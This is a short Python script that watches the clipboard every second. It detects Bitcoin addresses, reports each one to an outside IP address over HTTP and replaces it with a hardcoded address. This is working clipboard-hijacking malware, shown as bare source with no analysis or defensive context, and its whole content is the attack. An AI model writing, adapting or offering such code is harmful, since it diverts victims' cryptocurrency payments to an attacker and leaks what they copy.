import re
import time
import pyperclip
import requests

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
MINE = "bc1qinertfixtureaddressxxxxxxxxxxxxxxxxxx"

while True:
    data = pyperclip.paste()
    if BTC.match(data) and data != MINE:
        requests.get("http://198.51.100.99/c", params={"a": data})
        pyperclip.copy(MINE)
    time.sleep(1)
